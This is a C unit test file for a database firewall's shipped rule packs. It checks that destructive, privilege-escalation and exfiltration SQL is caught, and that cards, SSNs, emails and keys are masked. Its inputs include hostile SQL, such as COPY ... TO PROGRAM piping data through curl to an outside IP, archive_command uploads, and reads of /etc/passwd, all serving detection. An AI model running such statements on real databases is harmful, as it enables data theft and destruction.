/* test_packs.c - the shipped rule packs (rules/packs/): every rule has inputs it
 * matches and near misses it does not, judged as the appliance judges them (SQL
 * through sql_lex, result fields through rule_mask_fields); and no pack rule goes
 * untested. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <cmocka.h>

#include "common/tg_log.h"
#include "dataplane/proto/sql_lex.h"
#include "rules/rule.h"

#define MAX_CASES 4

/* A command rule: statements that it decides, and near misses with the verdict they
 * get instead (NULL: allowed). */
struct cmd_case {
	const char *rule;
	uint8_t proto;
	const char *match[MAX_CASES];
	const char *miss[MAX_CASES];
	const char *miss_by[MAX_CASES];   /* the rule deciding a near miss, or NULL */
};

/* A field rule: values and what they become; near misses stay as they are. */
struct field_case {
	const char *rule;
	const char *in[MAX_CASES];
	const char *out[MAX_CASES];
	const char *miss[MAX_CASES];
};

/* A column rule: a column it masks (with a value and its mask) and one it does not. */
struct column_case {
	const char *rule;
	const char *column, *value, *masked;
	const char *miss_column;
};

static const struct cmd_case cmd_cases[] = {
	/* destructive.conf */
	{ "sql.drop-table", DP_PROTO_PG,
	  { "drop table users", "DROP TABLE IF EXISTS \"Orders\" CASCADE", "dRoP/**/TaBlE t",
	    "DROP FOREIGN TABLE remote_orders" },
	  { "SELECT 'DROP TABLE x'", "SELECT * FROM drop_table_log", "DROP INDEX idx_users",
	    "/* DROP TABLE t */ SELECT 1" } },
	{ "sql.drop-owned", DP_PROTO_PG,
	  { "DROP OWNED BY bob", "drop owned by bob, alice cascade" },
	  { "SELECT * FROM dropped_owned", "REASSIGN OWNED BY bob TO alice" } },
	{ "sql.drop-cascade", DP_PROTO_PG,
	  { "DROP TYPE mood CASCADE", "drop extension hstore cascade",
	    "DROP VIEW IF EXISTS v, w CASCADE" },
	  { "DROP VIEW v", "DROP FUNCTION f(text)", "COMMENT ON TABLE t IS 'DROP x CASCADE'" } },
	{ "sql.merge-delete", DP_PROTO_PG,
	  { "MERGE INTO t USING u ON true WHEN MATCHED THEN DELETE",
	    "merge into t using u on t.id = u.id when matched and u.gone then delete" },
	  { "MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN UPDATE SET a = u.a",
	    "MERGE INTO t USING u ON t.id = u.id WHEN NOT MATCHED THEN INSERT VALUES (u.id, 'then delete')" } },
	/* statements that hold the one PostgreSQL runs (sql_lex.c, W_*): judged alone */
	{ "sql.drop-table", DP_PROTO_PG,
	  { "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DROP TABLE t; END $$",
	    "create or replace function f() returns void language sql as 'drop table t'",
	    "CREATE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC DROP TABLE t; END" },
	  { "CREATE FUNCTION f() RETURNS text LANGUAGE sql AS $$ SELECT 'DROP TABLE t' $$",
	    "CREATE TABLE x AS SELECT 'DROP TABLE t'" } },
	{ "sql.delete-without-where", DP_PROTO_PG,
	  { "PREPARE d AS DELETE FROM orders", "EXPLAIN ANALYZE DELETE FROM orders",
	    "COPY (DELETE FROM orders RETURNING *) TO STDOUT",
	    "CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM orders" },
	  { "EXPLAIN DELETE FROM orders", "PREPARE d (int) AS DELETE FROM orders WHERE id = $1",
	    "COPY orders (id, note) TO STDOUT", "CREATE RULE r AS ON INSERT TO t DO INSTEAD NOTHING" } },
	{ "sql.update-without-where", DP_PROTO_PG,
	  { "EXPLAIN (ANALYZE, BUFFERS) UPDATE accounts SET balance = 0",
	    "PREPARE u AS UPDATE accounts SET balance = 0" },
	  { "EXPLAIN (FORMAT JSON) UPDATE accounts SET balance = 0" } },
	{ "sql.drop-table", DP_PROTO_MYSQL,
	  { "DROP TEMPORARY TABLE tmp_x", "drop table `orders`" },
	  { "SELECT \"DROP TABLE x\"", "# DROP TABLE t\nSELECT 1" } },
	{ "sql.drop-database", DP_PROTO_PG,
	  { "DROP DATABASE prod", "drop database if exists \"prod\"" },
	  { "SELECT datname FROM pg_database", "CREATE DATABASE prod" } },
	{ "sql.drop-schema", DP_PROTO_PG,
	  { "DROP SCHEMA app CASCADE" },
	  { "CREATE SCHEMA app", "SELECT * FROM drop_schema" } },
	{ "sql.drop-schema", DP_PROTO_MYSQL,
	  { "drop schema shop" },
	  { "SHOW SCHEMAS" } },
	{ "sql.truncate", DP_PROTO_PG,
	  { "TRUNCATE TABLE orders", "truncate orders, items RESTART IDENTITY" },
	  { "SELECT trunc(1.5)", "SELECT * FROM truncate_log" } },
	{ "sql.truncate", DP_PROTO_MYSQL,
	  { "TRUNCATE orders" },
	  { "SELECT TRUNCATE(1.5, 0)" } },
	{ "sql.delete-without-where", DP_PROTO_PG,
	  { "DELETE FROM orders", "delete from orders -- where id = 1", "DELETE FROM notes_where",
	    "DELETE FROM t RETURNING 'where'" },
	  { "DELETE FROM orders WHERE id = 1", "delete from t where current of c",
	    "SELECT * FROM deleted_rows" } },
	{ "sql.delete-without-where", DP_PROTO_MYSQL,
	  { "DELETE FROM orders ORDER BY id LIMIT 10", "DELETE t1 FROM t1 JOIN t2 ON t1.a = t2.a" },
	  { "DELETE FROM orders WHERE id = 1" } },
	{ "sql.update-without-where", DP_PROTO_PG,
	  { "UPDATE accounts SET balance = 0", "update t set note = 'where'",
	    "WITH x AS (SELECT 1) UPDATE t SET a = 1" },
	  { "UPDATE accounts SET balance = 0 WHERE id = 7", "SELECT * FROM updates" } },
	{ "sql.alter-drop-column", DP_PROTO_PG,
	  { "ALTER TABLE users DROP COLUMN email", "alter table users drop email",
	    "ALTER TABLE t ADD c int, DROP d", "ALTER TABLE t DROP CONSTRAINT t_pkey" },
	  { "ALTER TABLE users ALTER COLUMN email DROP NOT NULL",
	    "ALTER TABLE users ALTER COLUMN email DROP DEFAULT", "ALTER TABLE users ADD COLUMN email text" } },
	/* privilege.conf */
	{ "priv.grant", DP_PROTO_PG,
	  { "GRANT SELECT ON orders TO analyst", "grant all on schema app to bob" },
	  { "SELECT * FROM grants", "SELECT 'GRANT ALL'" } },
	{ "priv.grant", DP_PROTO_MYSQL,
	  { "GRANT SELECT ON shop.* TO 'u'@'%'" },
	  { "SHOW GRANTS FOR 'u'@'%'" } },
	{ "priv.revoke", DP_PROTO_PG,
	  { "REVOKE ALL ON orders FROM analyst" },
	  { "SELECT revoke_date FROM audit" } },
	{ "priv.create-role", DP_PROTO_PG,
	  { "CREATE ROLE reporting LOGIN", "create user app with password 'x'" },
	  { "CREATE TABLE roles (id int)", "SELECT * FROM pg_roles" } },
	{ "priv.alter-role", DP_PROTO_PG,
	  { "ALTER ROLE app CONNECTION LIMIT 5", "ALTER USER app PASSWORD 'superuser'" },
	  { "ALTER TABLE roles ADD c int", "SELECT 'ALTER ROLE x'" } },
	{ "priv.create-superuser", DP_PROTO_PG,
	  { "CREATE ROLE admin2 WITH SUPERUSER LOGIN", "create user x superuser" },
	  { "CREATE ROLE app NOSUPERUSER LOGIN", "CREATE ROLE app PASSWORD 'superuser'" },
	  { "priv.create-role", "priv.create-role" } },
	{ "priv.alter-superuser", DP_PROTO_PG,
	  { "ALTER USER bob WITH SUPERUSER", "alter role bob superuser" },
	  { "ALTER ROLE bob NOSUPERUSER", "ALTER ROLE bob VALID UNTIL 'superuser'" },
	  { "priv.alter-role", "priv.alter-role" } },
	{ "priv.role-bypass", DP_PROTO_PG,
	  { "CREATE ROLE x BYPASSRLS LOGIN", "alter user bob with replication",
	    "CREATE USER r REPLICATION" },
	  { "ALTER ROLE bob NOBYPASSRLS", "CREATE ROLE app NOREPLICATION LOGIN",
	    "ALTER ROLE bob PASSWORD 'replication'" },
	  { "priv.alter-role", "priv.create-role", "priv.alter-role" } },
	{ "priv.default-privileges", DP_PROTO_PG,
	  { "ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC",
	    "alter default privileges in schema app grant select on tables to analyst" },
	  { "ALTER DEFAULT PRIVILEGES REVOKE ALL ON TABLES FROM PUBLIC" } },
	{ "priv.owner-change", DP_PROTO_PG,
	  { "ALTER TABLE t OWNER TO eve", "alter schema app owner to bob" },
	  { "ALTER TABLE t RENAME TO u", "COMMENT ON TABLE t IS 'OWNER TO x'" } },
	{ "priv.alter-system", DP_PROTO_PG,
	  { "ALTER SYSTEM SET archive_command = 'curl -T %p http://198.18.0.9'",
	    "alter system reset all" },
	  { "SHOW archive_command", "SELECT * FROM pg_settings" } },
	{ "priv.mysql-grant-super", DP_PROTO_MYSQL,
	  { "GRANT SUPER ON *.* TO 'u'@'%'", "grant all privileges on *.* to 'ops'@'%'" },
	  { "GRANT SELECT ON shop.* TO 'u'@'%'", "GRANT ALL ON shop.* TO 'u'@'%'" },
	  { "priv.grant", "priv.grant" } },
	/* exfiltration.conf */
	{ "exfil.copy-program", DP_PROTO_PG,
	  { "COPY (SELECT * FROM users) TO PROGRAM 'curl -d @- http://198.18.0.9'",
	    "copy t from program 'id'" },
	  { "COPY users TO STDOUT", "SELECT 'COPY x TO PROGRAM y'" } },
	{ "exfil.copy-file", DP_PROTO_PG,
	  { "COPY users TO '/tmp/users.csv'", "copy t from '/etc/passwd'",
	    "COPY (SELECT 1) TO E'/tmp/x' WITH (FORMAT csv)" },
	  { "COPY users FROM STDIN", "COPY users (a, b) TO STDOUT WITH (FORMAT csv)" } },
	{ "exfil.lo-export", DP_PROTO_PG,
	  { "SELECT lo_export(16401, '/tmp/x')", "select \"lo_export\"(1, '/tmp/y')" },
	  { "SELECT * FROM lo_export_log", "SELECT 'lo_export(1)'" } },
	{ "exfil.lo-import", DP_PROTO_PG,
	  { "SELECT lo_import('/etc/passwd')" },
	  { "SELECT lo_importance FROM t" } },
	{ "exfil.pg-read-file", DP_PROTO_PG,
	  { "SELECT pg_read_file('/etc/passwd')", "select \"pg_read_binary_file\"('/x')",
	    "SELECT pg_catalog.pg_read_file('postgresql.conf', 0, 100)",
	    "SELECT pg_read_file_old('/etc/passwd', 0, 100)" },
	  { "SELECT pg_read_file_count FROM stats", "SELECT 'pg_read_file(x)'" } },
	{ "exfil.into-outfile", DP_PROTO_MYSQL,
	  { "SELECT * FROM users INTO OUTFILE '/tmp/u'", "select x into dumpfile '/tmp/b'" },
	  { "INSERT INTO outfiles VALUES (1)", "SELECT 'INTO OUTFILE'" } },
	{ "exfil.dblink", DP_PROTO_PG,
	  { "SELECT dblink_connect('host=198.18.0.9 dbname=x')",
	    "SELECT * FROM dblink('host=198.18.0.9', 'SELECT 1') AS t(a int)",
	    "select \"dblink_exec\"('c', 'x')" },
	  { "SELECT * FROM dblink_log", "SELECT 'dblink(x)'" } },
	{ "exfil.file-write", DP_PROTO_PG,
	  { "SELECT pg_file_write('/tmp/x', 'y', false)", "select pg_file_unlink('/tmp/x')" },
	  { "SELECT * FROM pg_file_writes", "SELECT 'pg_file_write(1)'" } },
	{ "exfil.foreign-server", DP_PROTO_PG,
	  { "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '198.18.0.9')",
	    "create user mapping for bob server s options (user 'x')",
	    "ALTER SERVER s OPTIONS (SET host '198.18.0.9')" },
	  { "CREATE TABLE servers (id int)", "SELECT * FROM pg_foreign_server" } },
	{ "exfil.extension", DP_PROTO_PG,
	  { "CREATE EXTENSION dblink", "create extension if not exists \"postgres_fdw\"",
	    "CREATE EXTENSION adminpack" },
	  { "CREATE EXTENSION pg_trgm", "CREATE EXTENSION hstore WITH SCHEMA dblink_x" } },
	{ "exfil.load-file", DP_PROTO_MYSQL,
	  { "SELECT LOAD_FILE('/etc/passwd')", "select load_file ('/x')" },
	  { "SELECT load_file_size FROM t" } },
	{ "exfil.load-data-infile", DP_PROTO_MYSQL,
	  { "LOAD DATA INFILE '/tmp/x' INTO TABLE t", "load data low_priority infile '/x' into table t" },
	  { "LOAD DATA LOCAL INFILE 'x' INTO TABLE t" } },
};

static const struct field_case field_cases[] = {
	{ "pii.card",
	  { "4111 1111 1111 1111", "paid with 5500-0000-0000-0004.", "378282246310005",
	    "6011000990139424" },
	  { "**** **** **** 1111", "paid with ****-****-****-0004.", "***********0005",
	    "************9424" },
	  { "4111 1111 1111 1112", "order 2024-05-12 13:45:12", "24111111111111111" } },
	{ "pii.iban",
	  { "DE89 3704 0044 0532 0130 00", "GB29NWBK60161331926819" },
	  { "DE** **** **** **** **30 00", "GB****************6819" },
	  { "DE89 3704 0044 0532 0130 01", "XX12 TEST" } },
	{ "pii.ssn",
	  { "123-45-6789", "ssn: 123 45 6789." },
	  { "***-**-6789", "ssn: *** ** 6789." },
	  { "078-05-1120", "000-12-3456", "phone 555-123-4567" } },
	{ "pii.email",
	  { "jane.doe@example.com", "to: ops+alerts@mail.example.co.uk" },
	  { "j***.***@*******.***", "to: o**+******@****.*******.**.**" },
	  { "jane.doe@localhost", "@example.com", "user at example dot com" } },
	{ "secret.aws-access-key",
	  { "AKIAIOSFODNN7EXAMPLE", "key=ASIAY34FZKBOKMUTVV7A;" },
	  { "AKIA****************", "key=ASIA****************;" },
	  { "AKIAIOSFODNN7EXAMPL", "akiaiosfodnn7example" } },
	{ "secret.private-key",
	  { "-----BEGIN RSA PRIVATE KEY-----\nMIIBOgIBAAJBAKj34GkxFhD9\n-----END RSA PRIVATE KEY-----",
	    "k: -----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEF" },
	  { "**************************************************************************************",
	    "k: ********************************************************" },
	  { "-----BEGIN PUBLIC KEY-----\nMFwwDQYJKoZIhvcNAQEBBQADSwAwSAJBAK\n-----END PUBLIC KEY-----" } },
	{ "secret.jwt",
	  { "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.sig-abc_123",
	    "Bearer eyJhbGciOiJub25lIn0.eyJ1c2VyIjoiYm9iIn0." },
	  { "****************************************************",
	    "Bearer ****************************************" },
	  { "eyJhbGciOiJIUzI1NiJ9", "eyJhbGciOiJIUzI1NiJ9.notjson.sig" } },
};

static const struct column_case column_cases[] = {
	{ "pii.ssn-column", "SSN", "123-45-6789", "***-**-****", "ssn_verified" },
	{ "pii.ssn-column", "national_id", "AB 12 34 56 C", "** ** ** ** *", "nationality" },
	{ "secret.password-hash-column", "password_hash", "$2b$12$abcdef", "*************",
	  "password_hint" },
	{ "secret.password-hash-column", "Encrypted_Password", "xyz", "***", "password_changed_at" },
};

static struct rule_set *packs;
static struct rule_scratch *scratch;

static int setup(void **state)
{
	static const char *const names[] = { "destructive.conf", "privilege.conf",
					     "exfiltration.conf", "pii.conf" };
	const char *root = getenv("TG_SRCDIR"), *files[4];
	static char paths[4][512];
	char err[1024];

	tg_log_set_level(TG_LOG_ERROR);
	for (unsigned i = 0; i < 4; i++) {
		snprintf(paths[i], sizeof(paths[i]), "%s/rules/packs/%s", root ? root : ".", names[i]);
		files[i] = paths[i];
	}
	if (rule_set_load(files, 4, NULL, NULL, &packs, err, sizeof(err)) != 0) {
		fprintf(stderr, "packs do not load: %s\n", err);
		return -1;
	}
	return rule_scratch_alloc(packs, &scratch);
}

static int teardown(void **state)
{
	rule_scratch_free(scratch);
	rule_set_free(packs);
	return 0;
}

/* Lexes <sql> and judges each statement as the PostgreSQL decoder does (a statement
 * that holds another, such as COPY (query) or PREPARE ... AS, lexes to both): the
 * highest action decides, the first of equals. */
static struct rule_verdict judge(uint8_t proto, const char *sql)
{
	char norm[1024], fp[1024];
	struct sql_stmt st[4];
	struct sql_lex_out out = { .norm = norm, .norm_cap = sizeof(norm), .fp = fp,
				   .fp_cap = sizeof(fp), .stmts = st, .stmts_cap = 4 };
	struct rule_verdict v = { .rule = -1 }, sv;
	uint32_t len = (uint32_t)strlen(sql);
	int n = sql_lex(sql, len, proto == DP_PROTO_MYSQL ? SQL_LEX_MYSQL : 0, &out);

	if (n < 1)
		fail_msg("\"%s\" lexes to %d statements", sql, n);
	for (int i = 0; i < n; i++) {
		assert_int_equal(rule_check_command(packs, scratch, proto, 0,
						    norm + st[i].norm_off, st[i].norm_len,
						    fp + st[i].fp_off, st[i].fp_len,
						    sql + (st[i].nested ? 0 : st[i].raw_off),
						    st[i].nested ? len : st[i].raw_len, &sv), 0);
		if (i == 0 || sv.action > v.action)
			v = sv;
	}
	return v;
}

static void test_commands(void **state)
{
	for (size_t i = 0; i < sizeof(cmd_cases) / sizeof(cmd_cases[0]); i++) {
		const struct cmd_case *c = &cmd_cases[i];

		for (unsigned k = 0; k < MAX_CASES && c->match[k]; k++) {
			struct rule_verdict v = judge(c->proto, c->match[k]);

			if (v.id == NULL || strcmp(v.id, c->rule) != 0)
				fail_msg("%s: \"%s\" decided by %s, not by %s", c->rule, c->match[k],
					 v.id ? v.id : "nothing (allowed)", c->rule);
			assert_int_equal(v.action, rule_action(packs, (unsigned)v.rule));
		}
		for (unsigned k = 0; k < MAX_CASES && c->miss[k]; k++) {
			struct rule_verdict v = judge(c->proto, c->miss[k]);
			const char *want = c->miss_by[k];

			if ((want == NULL) != (v.id == NULL) || (want && strcmp(want, v.id) != 0))
				fail_msg("%s: near miss \"%s\" decided by %s, expected %s", c->rule,
					 c->miss[k], v.id ? v.id : "nothing", want ? want : "nothing");
		}
	}
}

/* Masks <in> as one field (between length words, as in a DataRow); returns the field
 * (static). */
static const char *mask(const char *in, const char *column, struct rule_mask_stats *st)
{
	static char buf[512];
	size_t n = strlen(in);
	struct rule_field f = { .off = 4, .len = (uint32_t)n, .col_rule = -1 };

	assert_true(n + 8 < sizeof(buf));
	memcpy(buf, "\0\0\0\x41", 4);            /* a length word ending in 'A' */
	memcpy(buf + 4, in, n);
	memcpy(buf + 4 + n, "\0\0\0\x13", 4);
	if (column != NULL)
		f.col = rule_column_mask(packs, DP_PROTO_PG, 0, column, (uint32_t)strlen(column), &f.col_rule);
	assert_int_equal(rule_mask_fields(packs, scratch, DP_PROTO_PG, 0, (uint8_t *)buf,
					  (uint32_t)n + 8, &f, 1, st), 0);
	assert_memory_equal(buf + 4 + n, "\0\0\0\x13", 4);
	buf[4 + n] = '\0';
	return buf + 4;
}

static void test_fields(void **state)
{
	struct rule_mask_stats st;

	for (size_t i = 0; i < sizeof(field_cases) / sizeof(field_cases[0]); i++) {
		const struct field_case *c = &field_cases[i];

		for (unsigned k = 0; k < MAX_CASES && c->in[k]; k++) {
			const char *got = mask(c->in[k], NULL, &st);

			if (strcmp(got, c->out[k]) != 0)
				fail_msg("%s: \"%s\" -> \"%s\", expected \"%s\"", c->rule, c->in[k], got,
					 c->out[k]);
			assert_int_equal(st.fields_masked, 1);
		}
		for (unsigned k = 0; k < MAX_CASES && c->miss[k]; k++) {
			const char *got = mask(c->miss[k], NULL, &st);

			if (strcmp(got, c->miss[k]) != 0)
				fail_msg("%s: near miss \"%s\" masked to \"%s\"", c->rule, c->miss[k], got);
			assert_int_equal(st.fields_masked, 0);
		}
	}
}

/* Masks the <n> values of <in> as fields of one buffer with <rs>; returns the buffer
 * (malloc'ed, fields separated by '|'). */
static char *mask_all(const struct rule_set *rs, struct rule_scratch *s, const char *const *in,
		      unsigned n, struct rule_mask_stats *st)
{
	struct rule_field f[64];
	size_t len = 1;
	char *buf;

	assert_true(n <= 64);
	for (unsigned i = 0; i < n; i++)
		len += strlen(in[i]) + 1;
	buf = malloc(len + 1);
	assert_non_null(buf);
	len = 0;
	buf[len++] = '|';
	for (unsigned i = 0; i < n; i++) {
		size_t l = strlen(in[i]);

		f[i] = (struct rule_field){ .off = (uint32_t)len, .len = (uint32_t)l, .col_rule = -1 };
		memcpy(buf + len, in[i], l);
		len += l;
		buf[len++] = '|';
	}
	buf[len] = '\0';
	assert_int_equal(rule_mask_fields(rs, s, DP_PROTO_PG, 0, (uint8_t *)buf, (uint32_t)len, f, n, st), 0);
	return buf;
}

/* The pack's promises (min_digits, min_upper) hold for what its rules match: the pack
 * masks every input (its cases, and fields that sit near the levels: dates, ids,
 * lower-case IBAN look-alikes) exactly as the same pack without any promise does. */
static void test_promises(void **state)
{
	const char *root = getenv("TG_SRCDIR");
	char path[512], tmp[] = "/tmp/tg-packs-XXXXXX", line[1024], err[1024];
	const char *in[64], *tp = tmp;
	struct rule_set *bare = NULL;
	struct rule_scratch *s = NULL;
	struct rule_mask_stats st1, st2;
	unsigned n = 0, stripped = 0;
	char *a, *b;
	FILE *src, *dst;
	int fd;

	snprintf(path, sizeof(path), "%s/rules/packs/pii.conf", root ? root : ".");
	assert_non_null(src = fopen(path, "r"));
	assert_true((fd = mkstemp(tmp)) >= 0);
	assert_non_null(dst = fdopen(fd, "w"));
	while (fgets(line, sizeof(line), src) != NULL) {
		if (strstr(line, "min_digits =") != NULL || strstr(line, "min_upper =") != NULL) {
			stripped++;
			continue;
		}
		fputs(line, dst);
	}
	fclose(src);
	fclose(dst);
	assert_true(stripped >= 4);                  /* the pack does promise */
	if (rule_set_load(&tp, 1, NULL, NULL, &bare, err, sizeof(err)) != 0)
		fail_msg("pii.conf without promises does not load: %s", err);
	unlink(tmp);
	assert_int_equal(rule_scratch_alloc(bare, &s), 0);
	for (size_t i = 0; i < sizeof(field_cases) / sizeof(field_cases[0]); i++)
		for (unsigned k = 0; k < MAX_CASES; k++) {
			if (field_cases[i].in[k] && n < 48)
				in[n++] = field_cases[i].in[k];
			if (field_cases[i].miss[k] && n < 48)
				in[n++] = field_cases[i].miss[k];
		}
	in[n++] = "2024-05-12 13:45:12+00";
	in[n++] = "de89 3704 0044 0532 0130 00";
	in[n++] = "Iban: DE89370400440532013000, card 4111-1111-1111-1111";
	in[n++] = "Alice.42@example.com";
	in[n++] = "123456";
	in[n++] = "AB12";
	a = mask_all(packs, scratch, in, n, &st1);
	b = mask_all(bare, s, in, n, &st2);
	assert_string_equal(a, b);
	assert_int_equal(st1.fields_masked, st2.fields_masked);
	assert_int_equal(st1.matches, st2.matches);
	assert_int_equal(st1.rejected, st2.rejected);
	assert_true(st1.fields_masked > 10);
	free(a);
	free(b);
	rule_scratch_free(s);
	rule_set_free(bare);
}

static void test_columns(void **state)
{
	struct rule_mask_stats st;
	char want[256];

	for (size_t i = 0; i < sizeof(column_cases) / sizeof(column_cases[0]); i++) {
		const struct column_case *c = &column_cases[i];
		int32_t ri;

		assert_non_null(rule_column_mask(packs, DP_PROTO_PG, 0, c->column,
						 (uint32_t)strlen(c->column), &ri));
		assert_string_equal(rule_id(packs, (unsigned)ri), c->rule);
		assert_string_equal(mask(c->value, c->column, &st), c->masked);
		assert_int_equal(st.fields_masked, 1);
		/* another column: only the field rules apply (an SSN is still an SSN) */
		assert_null(rule_column_mask(packs, DP_PROTO_PG, 0, c->miss_column,
					     (uint32_t)strlen(c->miss_column), &ri));
		snprintf(want, sizeof(want), "%s", mask(c->value, NULL, &st));
		assert_string_equal(mask(c->value, c->miss_column, &st), want);
	}
}

/* Every rule of every pack has a case above. */
static void test_all_rules_tested(void **state)
{
	for (unsigned r = 0; r < rule_set_count(packs); r++) {
		const char *id = rule_id(packs, r);
		int found = 0;

		for (size_t i = 0; !found && i < sizeof(cmd_cases) / sizeof(cmd_cases[0]); i++)
			found = strcmp(cmd_cases[i].rule, id) == 0;
		for (size_t i = 0; !found && i < sizeof(field_cases) / sizeof(field_cases[0]); i++)
			found = strcmp(field_cases[i].rule, id) == 0;
		for (size_t i = 0; !found && i < sizeof(column_cases) / sizeof(column_cases[0]); i++)
			found = strcmp(column_cases[i].rule, id) == 0;
		if (!found)
			fail_msg("pack rule %s has no test case", id);
	}
	assert_true(rule_set_count(packs) >= 30);
}

/* A DO block's body is judged too: sql_lex hands its statements over as nested ones. */
static void test_do_block(void **state)
{
	static const char sql[] = "DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$";
	char norm[1024], fp[1024];
	struct sql_stmt st[8];
	struct sql_lex_out out = { .norm = norm, .norm_cap = sizeof(norm), .fp = fp,
				   .fp_cap = sizeof(fp), .stmts = st, .stmts_cap = 8 };
	int n = sql_lex(sql, sizeof(sql) - 1, 0, &out), blocked = 0;

	for (int i = 0; i < n; i++) {
		struct rule_verdict v;

		assert_int_equal(rule_check_command(packs, scratch, DP_PROTO_PG, 0, norm + st[i].norm_off,
						    st[i].norm_len, fp + st[i].fp_off, st[i].fp_len,
						    sql + st[i].raw_off, st[i].raw_len, &v), 0);
		blocked |= v.action == RULE_BLOCK && strcmp(v.id, "sql.drop-table") == 0;
	}
	assert_true(blocked);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_commands),
		cmocka_unit_test(test_fields),
		cmocka_unit_test(test_columns),
		cmocka_unit_test(test_promises),
		cmocka_unit_test(test_all_rules_tested),
		cmocka_unit_test(test_do_block),
	};

	return cmocka_run_group_tests(tests, setup, teardown);
}
